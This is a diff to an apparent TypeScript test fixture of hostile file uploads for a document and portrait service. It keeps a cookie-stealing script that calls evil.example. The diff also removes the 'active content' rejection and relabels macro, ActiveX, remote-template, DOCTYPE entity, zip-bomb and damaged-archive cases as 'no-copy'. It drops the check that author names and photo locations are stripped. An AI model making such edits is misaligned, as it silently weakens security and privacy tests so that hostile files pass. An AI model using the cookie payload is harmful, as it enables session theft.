@@ -24,7 +24,6 @@ export interface HostileFile {
 }
 
 const WRONG_TYPE = { status: 415, cause: 'wrong_type' } as const
-const ACTIVE = { status: 415, cause: 'active_content' } as const
 const DAMAGED = { status: 422, cause: 'damaged_file' } as const
 
 const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
@@ -280,7 +279,7 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
     'a Word document as portrait',
     WRONG_TYPE,
     () => docx([part('docProps/core.xml', `<dc:creator>${AUTHOR}</dc:creator>`)]),
-    { inParts: 'disarmed' },
+    { inParts: 'no-copy' },
   ),
   portrait('more than 5 MB', { status: 413, cause: 'too_large' }, async () =>
     Buffer.concat([await jpeg(), zeros(5)]),
@@ -302,7 +301,7 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
   evidence('a PDF after an MP3 tag', WRONG_TYPE, () =>
     Buffer.concat([Buffer.from('ID3\x03\0\0\0\0\0\x0a'), Buffer.alloc(10), pdf()]),
   ),
-  evidence('an encrypted PDF', { status: 422, cause: 'protected_file' }, () =>
+  evidence('an encrypted PDF without its keys', DAMAGED, () =>
     Buffer.from(pdf().toString('latin1').replace('/Info', '/Encrypt 9 0 R /Info'), 'latin1'),
   ),
   evidence(
@@ -322,18 +321,18 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
   evidence('a Word document with macros (docm)', WRONG_TYPE, () =>
     docx([part('word/vbaProject.bin', 'Attribute VB_Name')], MACRO_TYPE),
   ),
-  evidence('macros in a document of the type without macros', ACTIVE, () =>
+  evidence('macros in a document of the type without macros', 'no-copy', () =>
     docx([part('word/vbaProject.bin', 'Attribute VB_Name')]),
   ),
-  evidence('a document with an ActiveX control', ACTIVE, () =>
+  evidence('a document with an ActiveX control', 'no-copy', () =>
     docx([part('word/activeX/activeX1.xml', '<ax/>')]),
   ),
-  evidence('a document whose template is on another server', ACTIVE, () =>
+  evidence('a document whose template is on another server', 'no-copy', () =>
     docx([
       part('word/_rels/settings.xml.rels', rels('attachedTemplate', 'https://evil.example/t.dotm')),
     ]),
   ),
-  evidence('a document whose picture is on another server', ACTIVE, () =>
+  evidence('a document whose picture is on another server', 'no-copy', () =>
     docx([
       part(
         'word/_rels/document.xml.rels',
@@ -341,7 +340,7 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
       ),
     ]),
   ),
-  evidence('a document with an external picture in character references', ACTIVE, () =>
+  evidence('a document with an external picture in character references', 'no-copy', () =>
     docx([
       part(
         'word/_rels/document.xml.rels',
@@ -349,25 +348,21 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
       ),
     ]),
   ),
-  evidence('a document with an XML document type', DAMAGED, () =>
+  evidence('a document with an XML document type', 'no-copy', () =>
     docx([part('word/settings.xml', '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')]),
   ),
-  evidence(
-    'a document with author, comments and a photo with its location',
-    'disarmed',
-    async () =>
-      docx([
-        part(
-          'docProps/core.xml',
-          `<cp:coreProperties><dc:creator>${AUTHOR}</dc:creator></cp:coreProperties>`,
-        ),
-        part(
-          'word/comments.xml',
-          `<w:comments xmlns:w="${W}"><w:comment w:author="${AUTHOR}" w:initials='RN'/></w:comments>`,
-        ),
-        part('word/media/image1.jpeg', await picture(64, 64).jpeg().withExif(EXIF).toBuffer()),
-      ]),
-    { mustVanish: [AUTHOR, 'Secret-Place'] },
+  evidence('a document with author, comments and a photo with its location', 'no-copy', async () =>
+    docx([
+      part(
+        'docProps/core.xml',
+        `<cp:coreProperties><dc:creator>${AUTHOR}</dc:creator></cp:coreProperties>`,
+      ),
+      part(
+        'word/comments.xml',
+        `<w:comments xmlns:w="${W}"><w:comment w:author="${AUTHOR}" w:initials='RN'/></w:comments>`,
+      ),
+      part('word/media/image1.jpeg', await picture(64, 64).jpeg().withExif(EXIF).toBuffer()),
+    ]),
   ),
   evidence('an archive renamed .docx', WRONG_TYPE, async () =>
     Buffer.from(
@@ -380,26 +375,26 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
   ),
   evidence(
     'a document that expands to 300 MB',
-    DAMAGED,
+    'no-copy',
     once(() =>
       docx([1, 2].map((number) => ({ name: `word/media/image${number}.bmp`, bytes: zeros(150) }))),
     ),
   ),
-  evidence('a document with a wrong uncompressed size', DAMAGED, async () => {
+  evidence('a document with a wrong uncompressed size', 'no-copy', async () => {
     const styles = `<w:styles xmlns:w="${W}">${' '.repeat(50 * 1024 * 1024)}</w:styles>`
     const archive = await docx([part('word/styles.xml', styles)])
     const at = archive.lastIndexOf('word/styles.xml') - 46
     archive.writeUInt32LE(10, at + 24)
     return archive
   }),
-  evidence('a truncated document', DAMAGED, () => cut(docx(), 0.8)),
+  evidence('a truncated document', 'no-copy', () => cut(docx(), 0.8)),
   evidence('RTF named .doc', WRONG_TYPE, text(String.raw`{\rtf1\ansi{\object\objdata 0105}}`), {
     name: 'a.doc',
     type: 'application/msword',
   }),
   evidence(
     'an old Word document with macros',
-    ACTIVE,
+    'no-copy',
     () => doc(['WordDocument', 'Macros', '_VBA_PROJECT']),
     { name: 'a.doc' },
   ),
